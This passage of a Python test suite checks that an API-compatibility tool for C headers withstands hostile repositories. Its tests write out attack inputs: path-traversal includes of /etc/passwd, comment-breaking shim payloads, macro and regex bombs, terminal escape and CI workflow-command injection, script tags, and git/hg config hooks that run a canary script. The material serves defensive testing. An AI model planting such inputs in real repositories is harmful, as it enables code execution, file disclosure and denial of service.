        if fmt not in ("json", "sarif"):      # JSON spells it \udcff, which every JSON reader takes
            assert "\\xff\\xfe" in result.output, (fmt, result.output[-1500:])


def test_a_hand_made_dotdot_tree_entry_is_left_out_not_fatal(tmp_path):  # issue 9 extra
    """Attack (git): a tree made with `git mktree` holding an entry named `..`, so r2 lists
    `include/../evil.h`.  Today the run ends ("does not exist").  Safe: the path is left out
    with a warning naming it; the rest is compared."""
    repo = make_repo(tmp_path / "repo", "git", [OLD])
    def git(*args, stdin=None):
        return subprocess.run(["git", *args], cwd=repo, input=stdin, capture_output=True, text=True,
                              check=True).stdout.strip()
    blob = git("hash-object", "-w", "--stdin", stdin="int evil(void);\n")
    inner = git("mktree", stdin=f"100644 blob {blob}\tevil.h\n")
    a = git("hash-object", "-w", "--stdin", stdin=NEW["include/a.h"])
    include = git("mktree", stdin=f"100644 blob {a}\ta.h\n040000 tree {inner}\t..\n")
    top = git("mktree", stdin=f"040000 tree {include}\tinclude\n")
    commit = git("-c", "user.name=t", "-c", "user.email=t@t", "commit-tree", top, "-p", "r1", "-m", "r2")
    git("tag", "r2", commit)
    result = cli("diff", "r1", "r2", "--repo", repo)
    assert result.exit_code == 4 and "Function added: b" in result.output, result.output
    assert "include/../evil.h" in result.output and "left out" in result.output


def test_bad_defines_in_a_repository_profile_are_ignored_not_fatal(tmp_path, vcs):  # issue 9 extra
    """Attack: the repository's profile lists a define with a line break and one that is a
    number: today the whole run ends.  Safe: those entries are ignored with a warning (an
    error still, in a profile the user named), the good define is used."""
    repo = hostile_repo(tmp_path, vcs, profile='defines = ["HAVE_B=1", "BAD\\nX", 5]\n',
                        new={"include/a.h": "int a(void);\n#if HAVE_B\nint b(void);\n#endif\n"})
    result = cli("diff", "r1", "r2", "--repo", repo)
    assert result.exit_code == 4 and "Function added: b" in result.output, result.output
    assert_ignored(result.output, "defines")


def test_shim_comments_never_end_early(tmp_path, vcs):  # issue 9 extra
    """Attack: r1 declares `void f(int a, char b[sizeof "*/ int injected_code; /*"])`; r2 drops
    b.  The shim's adapter comment quotes the finding's message, the `*/` in it ends the comment,
    and `int injected_code;` (in the attack: an `__attribute__((constructor))` calling system())
    becomes live code in the user's build.  Safe: every comment the shim writes is inert: the
    shim's text outside comments and strings has no `injected_code`."""
    payload = 'void f(int a, char b[sizeof "*/ int injected_code; /*"]);\n'
    repo = make_repo(tmp_path / "repo", vcs, [{"include/a.h": "int base(void);\n" + payload},
                                              {"include/a.h": "#define LIB_V2 1\nint base(void);\nvoid f(int a);\n"}])
    shim = cli("shim", "r1", "r2", "--repo", repo, "--arg", "f.b=0").stdout
    assert "injected_code" in shim, shim          # quoted (inert), so the test looks at the right text
    live = re.sub(r'/\*.*?\*/', " ", shim, flags=re.S)          # what the compiler reads as code
    live = re.sub(r'"(?:[^"\\\n]|\\.)*"', '""', live)
    assert "injected_code" not in live, live


def test_enumerator_arithmetic_is_bounded(tmp_path, vcs):  # issue 9 item 6
    """Attack: `B1 = B0 << 0x7fffffff`, twenty times (about 50 GiB of Python integer), and
    `1 << 20000` (a value too long to print: a traceback).  Safe: values beyond 128 bits are
    "not evaluated"; the run ends normally, quickly and small."""
    chain = "enum { B0 = 1, " + ", ".join(f"B{i} = B{i - 1} << 0x7fffffff" for i in range(1, 21)) + " };\n"
    repo = hostile_repo(tmp_path, vcs, old={"include/big.h": "enum { BIG = 1 << 20000 };\n"},
                        new={"include/big.h": "enum { BIG = 1 << 20001 };\n" + chain})
    for fmt in ("text", "json"):
        run = run_measured("diff", "r1", "r2", "--repo", repo, "--format", fmt, "--no-cache", timeout=120)
        assert run["rc"] in (0, 4, 8, 12), run["err"][-2000:]
        assert "Traceback" not in run["err"] and run["peak_kb"] < MEMORY_BUDGET_KB, run["err"][-2000:]


def test_a_small_header_that_expands_to_megabytes_of_c_is_not_parsed(tmp_path, vcs):  # issue 9 item 6
    """Attack: 200 bytes of nested macros expand (within the preprocessor's limits) to ~15 MB of
    valid C; pycparser needs ~100x that in apicompat's own process (gigabytes, minutes).  Safe:
    text over the parse limit (APICOMPAT_MAX_PARSE_MB, 8) is a problem for that header."""
    bomb = "#define L0 extern int v;\n" + "".join(f"#define L{i} L{i-1} L{i-1} L{i-1} L{i-1}\n"
                                                    for i in range(1, 11)) + "L10\n"
    repo = hostile_repo(tmp_path, vcs, new={"include/b.h": bomb, "include/c.h": "int c(void);\n"})
    run = run_measured("diff", "r1", "r2", "--repo", repo, "--format", "json", "--no-cache")
    assert run["rc"] == 4 | 32, run["err"][-2000:]
    assert "APICOMPAT_MAX_PARSE_MB" in run["out"] and run["peak_kb"] < MEMORY_BUDGET_KB, run["peak_kb"]


def test_a_dollar_folder_does_not_hide_an_outside_include_from_consumer_compiles(tmp_path, vcs, host_secret):  # issue 9 item 4
    """Attack: the revision has a folder `include/x$/`, and a header includes
    `"x$/../../../…/hostname"`.  GCC writes `$` as `$$` in its dependency output, so the check saw
    a path that does not exist and let the compile read the host file; the parse error then
    quoted its first token ("before: SECRET").  Safe: make's quoting is undone, every listed path
    is checked by where it points, and consumer compiles run in the compiler's jail."""
    token, files = host_secret
    evil = 'int leak_\n#include "x$/' + UP + str(files["hostname"]).lstrip("/") + '"\n;\n'
    both = {"include/x$/a.h": "/* a folder with a dollar */\n", "include/evil.h": evil}
    repo = make_repo(tmp_path / "repo", vcs, [{**both, "include/lib.h": "int base(int);\n"},
                                              {**both, "include/lib.h": "int base(long);\n"}])
    me = tmp_path / "me" / "my.c"
    me.parent.mkdir()
    me.write_text("#include <lib.h>\n#include <evil.h>\nint main(void) { return base(1); }\n")
    for fmt in ("text", "json"):
        result = run_cli("impact", "r1", "r2", "--repo", repo, "--header", "include/**.h", "--consumer", me,
                         "--check", "--format", fmt, timeout=SLOW)
        assert token not in result.stdout + result.stderr, f"host file content in `impact --format {fmt}`"
        assert "Traceback" not in result.stderr


# == Item 5: generators' process groups ====================================================

def shell_generator(script: str, timeout: float) -> str:
    """A profile whose one generator runs `script` with /bin/sh and makes include/a.h."""
    return f"""
generators = ["gen"]
[generator.gen]
type = "command"
command = ["/bin/sh", "-c", {toml_str(script)}]
outputs = ["include/a.h"]
timeout = {timeout}
"""


@needs_proc
def test_generator_time_limit_kills_its_children_too(tmp_path, vcs):  # issue 9 item 5
    """Attack (user gave --trust): a generator forks a child that outlives the time limit
    (`(sleep 3; touch CANARY) & sleep 30`, timeout = 1).  Today only the direct child is
    killed: the canary fires after the run and `sleep 30` is left behind.  Safe: the whole
    process group dies at the time limit."""
    canary, token = tmp_path / "pwned", f"hostile{uuid.uuid4().hex}"
    profile = shell_generator(f"(sleep 3; touch {canary}) & exec {sys.executable} -c 'import time; "
                              f"time.sleep(30)' {token}", timeout=1)
    repo = hostile_repo(tmp_path, vcs, profile=profile)
    try:
        run_cli("diff", "r1", "r2", "--repo", repo, "--trust", timeout=60)
        time.sleep(5)
        assert not canary.exists(), "a generator's child outlived the time limit"
        assert not pids_with(token), "a generator's process is still running after the run"
    finally:
        kill_pids(pids_with(token))


@needs_proc
def test_background_child_does_not_make_a_generator_time_out(tmp_path, vcs):  # issue 9 item 5
    """Attack (user gave --trust): a generator that succeeds at once but leaves a background
    child holding its output pipe.  Today the run waits for the whole time limit, then counts
    the generator as timed out.  Safe: it counts as done when it exits; its child is killed."""
    token = f"hostile{uuid.uuid4().hex}"
    code = ("import subprocess, sys; open('include/gen.h', 'w').write('int generated(void);\\n'); "
            f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(40)', '{token}'])")
    profile = GENERATOR.format(code=toml_str(code)).replace('outputs = ["include/a.h"]', 'outputs = ["include/gen.h"]') \
        + "timeout = 15\n"
    repo = hostile_repo(tmp_path, vcs, profile=profile)
    try:
        start = time.monotonic()
        result = run_cli("diff", "r1", "r2", "--repo", repo, "--trust", timeout=120)
        elapsed = time.monotonic() - start
        assert "did not finish" not in result.stdout + result.stderr, result.stdout + result.stderr
        assert elapsed < 12, f"the run waited {elapsed:.0f} s for a generator that had exited"
        assert result.returncode == 4, result.stdout + result.stderr
    finally:
        kill_pids(pids_with(token))


@needs_proc
@pytest.mark.parametrize("ending", ["finishes", "times out"])
def test_a_generator_child_that_leaves_the_process_group_is_killed_too(tmp_path, vcs, ending):  # issue 9 item 5
    """Attack (user gave --trust): the generator starts `setsid sleep 30` (a new session: the
    process-group kill misses it), then exits at once or outlives its time limit.  Safe: the
    reaper parent (apicompat/reaper.py) kills every orphan when the generator ends or its time
    is up."""
    token = f"hostile{uuid.uuid4().hex}"
    escape = f"setsid {sys.executable} -c 'import time; time.sleep(30)' {token} </dev/null >/dev/null 2>&1 &"
    tail = "echo 'int a(void);' > include/a.h" if ending == "finishes" else "sleep 30"
    profile = shell_generator(f"{escape} {tail}", timeout=2)
    repo = hostile_repo(tmp_path, vcs, profile=profile)
    try:
        run_cli("diff", "r1", "r2", "--repo", repo, "--trust", "--no-cache", timeout=90)
        time.sleep(1)
        assert not pids_with(token), "a generator's setsid() child outlived the generator"
    finally:
        kill_pids(pids_with(token))


# == Item 6: bounded work ==================================================================

def test_generator_output_flood_is_capped_in_every_report(tmp_path, vcs):  # issue 9 item 6
    """Attack (user gave --trust): a failing generator prints 20 MB on stderr in one line.
    Today the whole line is the problem message: every report is 40 MB.  Safe: the output
    is capped (first and last few KB, and how much was cut)."""
    code = "import sys; sys.stderr.write('E' * 20_000_000); sys.exit(3)"
    repo = hostile_repo(tmp_path, vcs, profile=GENERATOR.format(code=toml_str(code)))
    for fmt in FORMATS:
        out = cli("diff", "r1", "r2", "--repo", repo, "--trust", "--format", fmt).output
        assert len(out) < 1_000_000, f"{fmt} report is {len(out):,} characters"
        assert "E" * 1000 in out, f"the {fmt} report keeps none of the generator's output"


def test_deeply_nested_struct_is_a_problem_not_a_traceback(tmp_path, vcs):  # issue 9 item 6
    """Attack: a struct nested 10,000 deep.  Today: RecursionError inside pycparser, a
    Python traceback, exit 1.  Safe: no traceback; the header is a problem (or one error
    line) that names it."""
    depth = 10_000
    deep = "".join(f"struct s{i} {{\n" for i in range(depth)) + "int x;\n" + "} f;\n" * (depth - 1) + "};\n"
    repo = hostile_repo(tmp_path, vcs, new={"include/deep.h": deep})
    result = run_cli("diff", "r1", "r2", "--repo", repo, timeout=SLOW)
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr, result.stderr[-2000:]
    assert result.returncode in (1, 4, 4 | 32), result.stdout + result.stderr[-2000:]
    assert "include/deep.h" in result.stdout + result.stderr


def test_macro_expansion_bomb_is_bounded(tmp_path, vcs):  # issue 9 item 6
    """Attack: `#define A1 A0+A0 ... #define A40 A39+A39` and `A40` in an enum: the
    preprocessor's memory doubles per level (4 GB at level 24).  Safe: the run ends in
    bounded time and memory with a problem naming the header, no traceback."""
    levels = 40
    bomb = "#define A0 1\n" + "".join(f"#define A{i} A{i - 1}+A{i - 1}\n" for i in range(1, levels + 1)) \
        + f"enum {{ BOMB = A{levels} }};\n"
    repo = hostile_repo(tmp_path, vcs, new={"include/bomb.h": bomb})
    run = run_measured("diff", "r1", "r2", "--repo", repo)
    assert run["rc"] != "timeout", f"a macro bomb kept apicompat busy for over {SLOW} s"
    assert "Traceback" not in run["err"], run["err"][-2000:]
    assert run["peak_kb"] < MEMORY_BUDGET_KB, f"peak RSS {run['peak_kb'] // 1024} MB ({run['seconds']:.0f} s)"
    assert "include/bomb.h" in run["out"] + run["err"]


@needs_proc
def test_kill_9_of_timeline_leaves_no_workers(tmp_path, vcs):  # issue 9 item 6
    """Attack: `timeline` is killed with SIGKILL (a CI job cancelled) while its workers run
    slow generators.  Today the workers and their generators keep running.  Safe: workers
    (and what they started) die with their parent.  The profile is the user's own file."""
    token = f"hostile{uuid.uuid4().hex}"
    repo = make_repo(tmp_path / "repo", vcs, [{"include/a.h": f"int a{i}(void);\n"} for i in range(4)])
    profile = tmp_path / "user-profile.toml"           # outside the repository: the user's own
    profile.write_text(f"""
trust = true
generators = ["slow"]
[generator.slow]
type = "command"
inputs = ["include/*.h"]
command = ["{{python}}", "-c", "import time; time.sleep(60)", "{token}"]
outputs = ["include/a.h"]
timeout = 120
""")
    proc = subprocess.Popen(apicompat_argv("timeline", "--repo", repo, "--profile", profile, "-j", "2", "--no-cache"),
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while not pids_with(token) and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.2)
        assert pids_with(token), "the generators never started"
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        time.sleep(5)
        workers, generators = pids_with(str(profile)), pids_with(token)
        assert not workers, f"{len(workers)} worker process(es) of the killed timeline still running"
        assert not generators, f"{len(generators)} generator process(es) of the killed timeline still running"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        kill_pids(pids_with(token) + pids_with(str(profile)))


# == Item 7: every pattern over repository text is linear ==================================

GUARDLESS = {
    # No include guard: the include-guard pattern in extract/macros.py fails only after
    # trying every way of splitting the comments (each `//` inside a line comment, each
    # `*/` a block comment may end at).  12 lines / 40 comments take hours today.
    "line-comments": "\n".join(["// see http://example.org/spec // and // notes"] * 12) + "\nint c(void);\n",
    "block-comments": "/* a */ " * 40 + "\nint c(void);\n",
}


@pytest.mark.parametrize("shape", sorted(GUARDLESS))
def test_guardless_header_of_comments_does_not_hang(tmp_path, vcs, shape):  # issue 9 item 7
    """Attack: a header of comment lines and no include guard (a real stdint.h stand-in did
    this by accident).  Today: 100% CPU for hours.  Safe: the run finishes promptly."""
    repo = hostile_repo(tmp_path, vcs, new={"include/comments.h": GUARDLESS[shape]})
    try:
        result = run_cli("diff", "r1", "r2", "--repo", repo, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("apicompat still busy after 60 s on a header of comments (catastrophic backtracking)")
    assert result.returncode == 4, result.stdout + result.stderr
    assert "Function added: c" in result.stdout


# == Item 8: terminal escape sequences =====================================================

ESC_TITLE = "\x1b[2J\x1b]0;pwned title\x07"


@pytest.mark.parametrize("color", [False, True], ids=["pipe", "terminal"])
def test_escape_sequences_in_headers_are_shown_escaped(tmp_path, vcs, color):  # issue 9 item 8
    """Attack: raw ESC[2J (clear screen) and ESC]0;...BEL (retitle) in a macro value, an
    `#error` message and a header's file name.  Safe: text output holds no raw ESC or BEL
    (with color=True click keeps escapes as on a terminal; our own colour is off here, so
    any ESC comes from the repository)."""
    repo = hostile_repo(tmp_path, vcs, new={
        "include/a.h": NEW["include/a.h"] + f'#define BANNER "{ESC_TITLE}"\n',
        "include/cfg.h": f"#ifndef CONFIGURED\n#error {ESC_TITLE} configure first\n#endif\nint cfg(void);\n",
        "include/\x1b[2Jname.h": "int named(void);\n",
    })
    for fmt in FORMATS:      # html and markdown too: printed to the terminal without --out
        out = cli("diff", "r1", "r2", "--repo", repo, "--format", fmt, color=color).output
        assert "BANNER" in out
        assert "\x1b" not in out and "\x07" not in out, \
            (fmt, repr([line for line in out.splitlines() if "\x1b" in line][:5]))


def test_escape_sequences_in_a_repository_profile_are_shown_escaped(tmp_path, vcs):  # issue 9 item 8
    """Attack: the repository's profile has a `name` and header globs holding ESC[2J and
    ESC]0;...BEL; `apicompat profile show` prints them.  Safe: shown escaped."""
    repo = hostile_repo(tmp_path, vcs, profile=f'name = {toml_str(ESC_TITLE)}\n'
                                               f'headers = ["include/*.h", {toml_str("x" + ESC_TITLE)}]\n'
                                               f'optional = [{toml_str("x" + ESC_TITLE)}]\n')
    for color in (False, True):
        out = cli("profile", "show", "r2", "--repo", repo, color=color).output
        assert "pwned title" in out, out
        assert "\x1b" not in out and "\x07" not in out, repr(out)


@pytest.mark.parametrize("command", ["log", "bisect", "timeline"])
def test_escape_sequences_in_commit_messages_are_shown_escaped(tmp_path, vcs, command):  # issue 9 item 8
    """Attack: commit subjects holding ESC[2J and ESC]0;...BEL, shown by log, bisect and
    timeline.  Safe: no raw ESC or BEL in their text output, on a pipe or a terminal."""
    repo = tmp_path / "repo"
    build_repository(vcs, repo, [
        Commit(f"first {ESC_TITLE}", {"include/a.h": "int a(void);\nint gone(void);\n"}, tag="r1"),
        Commit(f"remove gone {ESC_TITLE} done", {"include/a.h": "int a(void);\n"}, tag="r2"),
    ])
    args = {"log": ["log", "gone"], "bisect": ["bisect", "gone", "--event", "removed"], "timeline": ["timeline"]}
    for color in (False, True):
        out = cli(*args[command], "--repo", repo, "--no-cache", color=color).output
        assert "gone" in out or command == "timeline", out
        assert "\x1b" not in out and "\x07" not in out, repr(out[:2000])


def test_no_workflow_command_reaches_a_ci_log(tmp_path, vcs):  # issue 9 item 8
    """Attack: a CI runner executes `::cmd::` at a line's start (after whitespace, which it trims)
    and `##[cmd]` anywhere in a line.  A macro value long enough that the report wraps it so a
    line starts with `::error::`, `##[add-mask]` in another, the same in a commit subject.
    Safe: no line of any text output (stdout or stderr) would run as a command."""
    filler = "x" * 70
    repo = tmp_path / "repo"
    build_repository(vcs, repo, [
        Commit("first", {"include/a.h": "int a(void);\n"}, tag="r1"),
        Commit("second ##[stop-commands]tok", {"include/a.h": "int a(void);\n"
               f'#define WRAPPED "{filler} ::error::wrapped_command {filler}"\n'
               '#define V1 "##[add-mask]secret"\n'
               '#if __has_include("/x/##[error]probe.h")\n#endif\n'}, tag="r2"),
    ])
    outputs = [cli("diff", "r1", "r2", "--repo", repo, "--no-cache").output,
               cli("log", "WRAPPED", "--repo", repo, "--no-cache").output,
               cli("timeline", "--repo", repo, "--no-cache").output]
    for out in outputs:
        for line in out.splitlines():
            assert not line.strip().startswith("::") and "##[" not in line, line


# == Extra: the repository's own VCS configuration ========================================

def _sign_r2(repo: Path) -> None:
    """Give r2 a (bogus) gpgsig header, so `log.showSignature` makes git call gpg.program."""
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}

    def git(*args, stdin=None):
        return subprocess.run(["git", *args], cwd=repo, env=env, input=stdin, capture_output=True,
                              text=True, check=True).stdout
    raw = git("cat-file", "commit", "r2")
    signed = re.sub(r"(?m)^(committer .*)$",
                    r"\1\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n -----END PGP SIGNATURE-----", raw, count=1)
    commit = git("hash-object", "-t", "commit", "-w", "--stdin", stdin=signed).strip()
    git("update-ref", "refs/heads/main", commit)
    git("tag", "-f", "r2", commit)


def test_repository_vcs_config_runs_nothing(tmp_path, vcs):  # issue 9 extra
    """Attack: the analysed repository is a directory someone handed over (a vendor tarball
    with its .git or .hg).  Its own config runs commands: hg `[hooks] pre-cat = ...` (the hg
    backend says the repository's .hg/hgrc still applies); git `log.showSignature = true` +
    `gpg.program = ...` on a commit carrying a gpgsig header (the diff runs `git log`), or
    `core.fsmonitor`.  Safe: reading a repository runs none of its configured commands."""
    canary = tmp_path / "pwned"
    repo = hostile_repo(tmp_path, vcs)
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {canary}\ncat >/dev/null\nexit 1\n")
    script.chmod(0o755)
    if vcs == "hg":
        hooks = "".join(f"pre-{c} = {script}\n" for c in ("cat", "log", "files", "manifest", "status", "identify"))
        with open(repo / ".hg" / "hgrc", "a") as f:
            f.write(f"\n[hooks]\n{hooks}")
    else:
        _sign_r2(repo)
        with open(repo / ".git" / "config", "a") as f:
            f.write(f"\n[log]\n\tshowSignature = true\n[gpg]\n\tprogram = {script}\n[core]\n\tfsmonitor = {script}\n")
    for args in (["diff", "r1", "r2"], ["log", "b", "--no-cache"], ["timeline", "--no-cache"]):
        cli(*args, "--repo", repo)
        assert not canary.exists(), f"`{args[0]}` ran a command from the repository's own {vcs} configuration"


# == Guards: these pass today; they keep a fix from opening (or closing) the wrong doors ====

def test_guard_defines_with_a_newline_cannot_inject_an_include(tmp_path, vcs, host_secret):  # issue 9 item 4 (guard)
    """Attack: `defines = ["X=1\\n#include \\"/etc/passwd\\""]` in the repository's profile.
    gcc cuts -D at the newline today; a fix that writes defines into a prelude file must not
    turn this into an include."""
    token, files = host_secret
    define = f'X=1\n#include "{files["passwd"]}"'
    repo = hostile_repo(tmp_path, vcs, profile=f"defines = [{toml_str(define)}]\n")
    for fmt, out in all_formats("r1", "r2", "--repo", repo).items():
        assert token not in out, f"host file content in the {fmt} report"


@pytest.mark.parametrize("spelling", ["absolute", "escaping"])
def test_guard_when_exists_cannot_probe_host_files(tmp_path, vcs, host_secret, spelling):  # issue 9 item 4 (guard)
    """Attack: an era's `when_exists` names a host path, so the report would tell whether the
    file exists on the analysing machine.  Eras look inside the revision only."""
    token, files = host_secret
    path = str(files["passwd"]) if spelling == "absolute" else UP + str(files["passwd"]).lstrip("/")
    profile = f"""
[[era]]
name = "probe"
when_exists = {toml_str(path)}
headers = ["include/*.h"]
defines = ["PROBED"]

[[era]]
name = "fallback"
headers = ["include/*.h"]
"""
    repo = hostile_repo(tmp_path, vcs, new={"include/p.h": "#ifdef PROBED\nint host_file_exists(void);\n#endif\n"},
                        profile=profile)
    assert "host_file_exists" not in cli("diff", "r1", "r2", "--repo", repo).output


def _commit_symlink(repo: Path, vcs: str, name: str, target: Path, tag: str) -> None:
    link = repo / name
    link.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, link)
    if vcs == "git":
        env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1",
               "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.org",
               "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.org"}
        for args in (["add", name], ["commit", "-qm", "symlink"], ["tag", tag]):
            subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True)
    else:
        from apicompat.vcs.hg import hg_executable
        env = {**os.environ, "HGRCPATH": "", "HGPLAIN": "1"}
        for args in (["add", name], ["commit", "-q", "-u", "a", "-m", "symlink"], ["tag", "-u", "a", tag]):
            subprocess.run([hg_executable(), *args], cwd=repo, env=env, check=True, capture_output=True)


def test_guard_committed_symlink_to_a_host_file_is_not_followed(tmp_path, vcs, host_secret):  # issue 9 item 4 (guard)
    """Attack: a symlink committed as include/leak.h pointing at a host file.  Headers are read
    from the VCS (the link's text), never through the work tree; keep it that way."""
    token, files = host_secret
    repo = hostile_repo(tmp_path, vcs)
    _commit_symlink(repo, vcs, "include/leak.h", files["header"], "r3")
    for fmt, out in all_formats("r2", "r3", "--repo", repo).items():
        assert token not in out, f"host file content in the {fmt} report"


def test_guard_header_globs_with_dotdot_read_nothing_outside(tmp_path, vcs, host_secret):  # issue 9 item 4 (guard)
    """Attack: header globs that climb out of the repository (`include/../../../abs/*.h`, an
    absolute path, marked optional).  Globs are matched against the revision's file list."""
    token, files = host_secret
    folder = str(files["header"].parent).lstrip("/")
    headers = ["include/*.h", "include/" + UP + folder + "/*.h", "/" + folder + "/secret.h", UP + folder + "/secret.h"]
    repo = hostile_repo(tmp_path, vcs, profile=f"headers = {json.dumps(headers)}\noptional = [\"**\"]\n")
    assert token not in cli("diff", "r1", "r2", "--repo", repo).output


def test_guard_html_report_escapes_header_text(tmp_path, vcs):  # issue 9 item 4 (guard)
    """Attack: markup in a macro value, for the maintainer who opens the HTML report."""
    repo = hostile_repo(tmp_path, vcs, new={"include/x.h": '#define EVIL "</code><script>alert(1)</script>"\n'})
    out = cli("diff", "r1", "r2", "--repo", repo, "--format", "html").output
    assert "EVIL" in out and "<script>alert(1)" not in out


def test_guard_user_profile_outside_the_repository_keeps_trust(tmp_path, vcs):  # issue 9 item 1 (guard)
    """Must keep working: `--profile FILE` from outside the repository with `trust = true`
    runs its generators, as today."""
    repo = hostile_repo(tmp_path, vcs)
    profile = tmp_path / "mine.toml"
    profile.write_text("trust = true\n" + GENERATOR.format(
        code=toml_str("open('include/gen.h', 'w').write('int generated(void);\\n')")).replace(
        'outputs = ["include/a.h"]', 'outputs = ["include/gen.h"]'))
    result = cli("snapshot", "r2", "--repo", repo, "--profile", profile, "--out", tmp_path / "snap")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "snap" / "gen.h").read_text() == "int generated(void);\n"


def test_guard_trust_flag_still_runs_the_repository_generators(tmp_path, vcs):  # issue 9 item 1 (guard)
    """Must keep working: `--trust` is the user's say-so for one run: the repository's own
    generators run (the Xen profile's way of working)."""
    repo = hostile_repo(tmp_path, vcs, profile=GENERATOR.format(
        code=toml_str("open('include/gen.h', 'w').write('int generated(void);\\n')")).replace(
        'outputs = ["include/a.h"]', 'outputs = ["include/gen.h"]'))
    result = cli("snapshot", "r2", "--repo", repo, "--trust", "--out", tmp_path / "snap")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "snap" / "gen.h").exists()


# == Found by a second pass with fresh eyes ================================================

def test_report_never_writes_through_a_planted_symlink(tmp_path, vcs, monkeypatch):  # issue 9 extra
    """Attack: the user runs `apicompat report` inside the analysed work tree, where the repository
    committed `reports/<repo>-v1-v2.html` as a symlink to a file of the user's.  Safe: refused."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    repo = make_repo(tmp_path / "lib", vcs, [OLD, NEW])
    (repo / "reports").mkdir()
    os.symlink(victim, repo / "reports" / "lib-r1-r2.html")
    monkeypatch.chdir(repo)
    result = cli("report", "r1", "r2", "--repo", repo)
    assert victim.read_text() == "precious\n"
    assert result.exit_code == 1 and "symbolic link" in result.output


def test_has_include_scan_is_linear_on_a_hostile_line(tmp_path, vcs):  # issue 9 extra
    """Attack: one line repeating `__has_include(<` with no closing `>` (in a comment): each match
    attempt of an unbounded pattern scans to the line's end.  Safe: finishes promptly."""
    line = "/* " + "__has_include(<" * 40000 + " */\n"
    repo = make_repo(tmp_path / "repo", vcs, [OLD, {**NEW, "include/c.h": line + "int c(void);\n"}])
    result = run_cli("diff", "r1", "r2", "--repo", repo, timeout=SLOW)
    assert result.returncode == 4, result.stderr[-2000:]
